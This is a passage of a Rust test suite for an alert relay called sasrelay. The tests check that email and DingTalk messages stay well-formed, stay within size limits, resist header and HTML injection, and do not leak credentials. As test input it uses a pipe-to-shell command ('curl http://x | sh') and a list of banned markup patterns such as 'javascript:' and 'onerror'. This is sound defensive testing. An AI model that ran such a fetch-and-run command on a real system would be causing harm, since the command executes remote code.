        assert_eq!(m["authenticated"], true);
        assert_eq!(m["defects"], json!([]), "{m}");
        assert_eq!(m["content_type"], "multipart/alternative");
        let types: Vec<&str> = m["parts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["type"].as_str().unwrap())
            .collect();
        assert_eq!(types, ["text/plain", "text/html"]);
        assert_eq!(m["message_id"], format!("<{}@sasrelay>", p.id()));
        assert_eq!(
            m["rcpt_tos"],
            json!(["oncall@example.com", "audit@example.com"])
        );
        assert_eq!(m["cc"], "audit@example.com");
        assert_eq!(m["mail_from"], "alerts@example.com");
        assert!(!m["subject"].as_str().unwrap().is_empty());
        let names: Vec<&str> = m["header_names"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert!(
            names.contains(&"date") && !names.contains(&"bcc"),
            "{names:?}"
        );
    }
    assert!(
        got[1]["subject"].as_str().unwrap().contains("容器逃逸 🚨"),
        "{}",
        got[1]["subject"]
    );
    // The preview is the message that is sent.
    let preview = s.preview(&alert).unwrap();
    assert!(
        preview.contains(&format!("Message-ID: <{}@sasrelay>", alert.id())),
        "{preview}"
    );
    assert!(preview.contains("multipart/alternative"));
}

/// About 100 KB of attacker-written text (ASCII and CJK) in every text field a renderer
/// prints: the message as sent stays within 256 KiB (it was about 340 KB), is valid MIME and
/// is taken by a relay that refuses over 1 MiB.
#[tokio::test]
async fn an_email_with_huge_fields_stays_within_its_cap() {
    let peer = SmtpPeer::start();
    let huge = "bash -c 'curl http://x | sh' 命令行 ".repeat(3_000);
    assert!(huge.len() > 100_000);
    let p = hostile(1, &huge);
    // The default cap, then a smaller one set by `max_message_bytes`.
    for (n, (extra, cap)) in [("", 256 * 1024), ("max_message_bytes = 65536\n", 65_536)]
        .into_iter()
        .enumerate()
    {
        let s = peer.sink_with("\"oncall@example.com\"", "pass", extra);
        let o = deliver(&s, &p).await;
        assert!(o.is_delivered(), "{o:?}");
        let got = peer.received();
        assert_eq!(got.len(), n + 1);
        let size = got[n]["size"].as_u64().unwrap();
        assert!(size <= cap, "{size} bytes over {cap}");
        assert_eq!(got[n]["defects"], json!([]), "{}", got[n]["defects"]);
    }
}

#[tokio::test]
async fn smtp_replies_are_classified_and_credentials_never_leak() {
    let peer = SmtpPeer::start();
    let p: Payload = sample_event(Domain::Vulnerabilities).into();
    let o = deliver(&peer.sink("\"reject-perm@example.com\"", "pass"), &p).await;
    assert!(
        matches!(&o, Outcome::Permanent { reason, .. } if reason.contains("550")),
        "{o:?}"
    );
    let o = deliver(&peer.sink("\"reject-temp@example.com\"", "pass"), &p).await;
    assert!(
        matches!(&o, Outcome::Retry { reason, .. } if reason.contains("451")),
        "{o:?}"
    );
    let o = deliver(&peer.sink("\"oncall@example.com\"", "wrong-password"), &p).await;
    assert!(matches!(&o, Outcome::Permanent { .. }), "{o:?}");
    assert_no_secret(&format!("{o:?}"), &["wrong-password"]);
    // Nothing listens: retried.
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let s = sink(
        &format!(
            "name = \"mail\"\ntype = \"email\"\nhost = \"localhost\"\nport = {closed}\nfrom = \"a@example.com\"\nto = [\"b@example.com\"]\nrate_limit = {{ period = \"1ms\" }}\n"
        ),
        &[],
    );
    assert!(matches!(deliver(&s, &p).await, Outcome::Retry { .. }));
    assert!(peer.received().is_empty());
}

/// The tags the built-in HTML template writes.
const HTML_TAGS: [&str; 17] = [
    "!doctype", "html", "head", "meta", "title", "body", "div", "h2", "h3", "p", "table", "tr",
    "td", "strong", "span", "a", "br",
];

#[tokio::test]
async fn email_injection_corpus_adds_no_header_recipient_or_markup() {
    let peer = SmtpPeer::start();
    let s = peer.sink("\"oncall@example.com\"", "pass");
    let corpus = corpus();
    for (i, entry) in corpus.iter().enumerate() {
        let o = deliver(&s, &hostile(i, entry)).await;
        assert!(o.is_delivered(), "entry {i}: {o:?}");
    }
    let got = peer.received();
    assert_eq!(got.len(), corpus.len());
    for (i, m) in got.iter().enumerate() {
        let what = format!(
            "entry {i} ({:?})",
            corpus[i].chars().take(40).collect::<String>()
        );
        assert_eq!(
            m["rcpt_tos"],
            json!(["oncall@example.com", "audit@example.com"]),
            "{what}"
        );
        assert_eq!(m["defects"], json!([]), "{what}");
        let mut names: Vec<&str> = m["header_names"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        names.sort();
        assert_eq!(
            names,
            [
                "cc",
                "content-type",
                "date",
                "from",
                "message-id",
                "mime-version",
                "subject",
                "to"
            ],
            "{what}"
        );
        // As the client shows it: Python decoded every RFC 2047 word; none was the finding's.
        let subject = m["subject"].as_str().unwrap();
        assert!(!subject.contains('\n') && !subject.contains('\r'), "{what}");
        assert!(
            !subject.contains("=?") && !subject.chars().any(crate::render::invisible),
            "{what}: subject {subject:?}"
        );
        let html = m["parts"][1]["content"].as_str().unwrap().to_lowercase();
        // Every tag is one of the template's own, with no handler or foreign link.
        for (at, _) in html.match_indices('<') {
            let end = html[at..].find('>').map_or(html.len(), |e| at + e);
            let tag = &html[at + 1..end];
            let name = tag
                .trim_start_matches('/')
                .split([' ', '>'])
                .next()
                .unwrap_or("");
            assert!(HTML_TAGS.contains(&name), "{what}: tag <{tag}>");
            for bad in ["onerror", "onmouseover", "javascript:", "script", "evil"] {
                assert!(!tag.contains(bad), "{what}: tag <{tag}>");
            }
        }
        let text = m["parts"][0]["content"].as_str().unwrap();
        assert!(!text.contains("://evil"), "{what}: live link in text");
    }
}

/// The Subject of a formatted message as a mail client shows it: unfolded, and every RFC 2047
/// encoded word (`=?charset?b|q?…?=`) decoded once, the space between two adjacent ones dropped.
fn shown_subject(message: &str) -> String {
    let header = message
        .split("\r\n\r\n")
        .next()
        .unwrap()
        .replace("\r\n ", " ")
        .replace("\r\n\t", " ");
    let raw = header
        .lines()
        .find_map(|l| l.strip_prefix("Subject: "))
        .unwrap_or_else(|| panic!("no subject in {header}"));
    let decode = |word: &str| -> Option<Vec<u8>> {
        let inner = word.strip_prefix("=?")?.strip_suffix("?=")?;
        let mut parts = inner.splitn(3, '?');
        let (_charset, encoding, text) = (parts.next()?, parts.next()?, parts.next()?);
        match encoding {
            "b" | "B" => base64::engine::general_purpose::STANDARD.decode(text).ok(),
            "q" | "Q" => {
                let mut out = Vec::new();
                let b = text.as_bytes();
                let mut i = 0;
                while i < b.len() {
                    match b[i] {
                        b'_' => out.push(b' '),
                        b'=' if i + 3 <= b.len() => {
                            out.push(u8::from_str_radix(text.get(i + 1..i + 3)?, 16).ok()?);
                            i += 2;
                        }
                        c => out.push(c),
                    }
                    i += 1;
                }
                Some(out)
            }
            _ => None,
        }
    };
    let mut shown = String::new();
    let mut pending: Vec<u8> = Vec::new();
    let mut gap = "";
    for word in raw.split(' ') {
        if let Some(bytes) = decode(word) {
            if pending.is_empty() {
                shown.push_str(gap);
            }
            pending.extend(bytes);
        } else {
            shown.push_str(&String::from_utf8_lossy(&std::mem::take(&mut pending)));
            shown.push_str(gap);
            shown.push_str(word);
        }
        gap = " ";
    }
    shown.push_str(&String::from_utf8_lossy(&pending));
    shown
}

/// The message as lettre formats it: a title carrying its own RFC 2047 encoded words (which
/// lettre would write verbatim, being ASCII) shows them as text, never decoded into U+202E or
/// markup; the only encoded words in the Subject are lettre's, of the whole non-ASCII words.
#[tokio::test]
async fn a_finding_cannot_put_an_encoded_word_in_the_subject() {
    let s = sink(
        "name = \"mail\"\ntype = \"email\"\nhost = \"localhost\"\nfrom = \"sasrelay <alerts@example.com>\"\nto = [\"b@example.com\"]\n",
        &[],
    );
    // The decoder sees what a client sees (so the assertions below can fail).
    assert_eq!(
        shown_subject("Subject: a =?utf-8?b?4oCu?=\r\n =?utf-8?Q?x=E5=BC=82_y?= b\r\n\r\n"),
        "a \u{202e}x异 y b"
    );
    for (i, entry) in corpus().iter().enumerate() {
        let message = s.preview(&hostile(i, entry)).unwrap();
        let shown = shown_subject(&message);
        let what = format!("entry {i} ({entry:.40?}): {shown:?}");
        assert!(!shown.chars().any(crate::render::invisible), "{what}");
        assert!(!shown.contains("=?"), "{what}");
        if entry.starts_with("Login from =?") {
            assert!(
                shown.contains("Login from =？utf-8?b?4oCuZ25wLmV4ZQ="),
                "{what}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The command line: render, send-test, check

fn sasrelay(args: &[&str]) -> (i32, String, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_sasrelay"))
        .args(args)
        .env_remove("SASRELAY_LOG")
        .env("NOT_NEEDED", "x")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

const SOURCE: &str = "[[source]]\nname = \"prod\"\nregion = \"cn-hangzhou\"\ncredentials = { type = \"access_key\", access_key_id = \"LTAI\", access_key_secret = { env = \"NOT_NEEDED\" } }\n\n[state]\ndirectory = \"state\"\n\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cli_renders_sends_a_test_and_checks_templates() {
    let fake = FakeDingTalk::start(&[("cli", RobotRules::default())]).await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("sasrelay.toml");
    std::fs::write(dir.path().join("good.md.j2"), "{{ headline }}\n").unwrap();
    std::fs::write(dir.path().join("bad.md.j2"), "{{ event.titel }}\n").unwrap();
    let write = |template: &str| {
        std::fs::write(
            &cfg,
            format!(
                "{SOURCE}[[sink]]\nname = \"dt\"\ntype = \"dingtalk\"\nurl = \"{}\"\nkeyword = \"SAS\"\ntemplate = \"{template}\"\nrate_limit = {{ period = \"50ms\" }}\n\n\
                 [[sink]]\nname = \"mail\"\ntype = \"email\"\nhost = \"localhost\"\nfrom = \"a@example.com\"\nto = [\"b@example.com\"]\n",
                fake.url("cli")
            ),
        )
        .unwrap();
    };
    write("good.md.j2");
    let c = cfg.to_str().unwrap();

    let (code, out, err) = sasrelay(&[
        "render",
        "--config",
        c,
        "--sink",
        "dt",
        "--sample",
        "vulnerabilities",
    ]);
    assert_eq!(code, 0, "{err}");
    let body: Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(body["msgtype"], "markdown");
    assert!(body["markdown"]["text"].as_str().unwrap().contains("SAS"));
    let (code, out, err) = sasrelay(&["render", "--config", c, "--sink", "dt", "--digest"]);
    assert_eq!(code, 0, "{err}");
    assert!(serde_json::from_str::<Value>(out.trim()).is_ok());
    let f = serde_json::to_string(&finding(3, "cli finding", Severity::High)).unwrap();
    let (code, out, err) = sasrelay(&["render", "--config", c, "--sink", "dt", "--finding", &f]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("cli finding"), "{out}");
    let (code, out, err) = sasrelay(&["render", "--config", c, "--sink", "mail"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("Content-Type: multipart/alternative") && out.contains("@sasrelay>"),
        "{out}"
    );
    let (code, _, err) = sasrelay(&["render", "--config", c, "--sink", "nope"]);
    assert_ne!(code, 0);
    assert!(err.contains("dt, mail"), "{err}");

    let (code, out, err) = sasrelay(&["send-test", "--config", c, "--sink", "dt"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("delivered"), "{out}");
    assert_eq!(fake.log().len(), 1);
    assert_no_secret(&format!("{out}{err}"), &["access_token=cli"]);

    let (code, out, err) = sasrelay(&["check", "--config", c]);
    assert_eq!(code, 0, "{out}{err}");
    write("bad.md.j2");
    let (code, _, err) = sasrelay(&["check", "--config", c]);
    assert_ne!(code, 0);
    assert!(
        err.contains("sink[0].template") && err.contains("titel"),
        "{err}"
    );
    // A refused test message exits 1 with the platform's reason.
    lock(&fake.book).rules.clear();
    let (code, out, _) = sasrelay(&["send-test", "--config", c, "--sink", "dt"]);
    assert_eq!(code, 1);
    assert!(
        out.contains("permanent") && out.contains("access_token"),
        "{out}"
    );
}
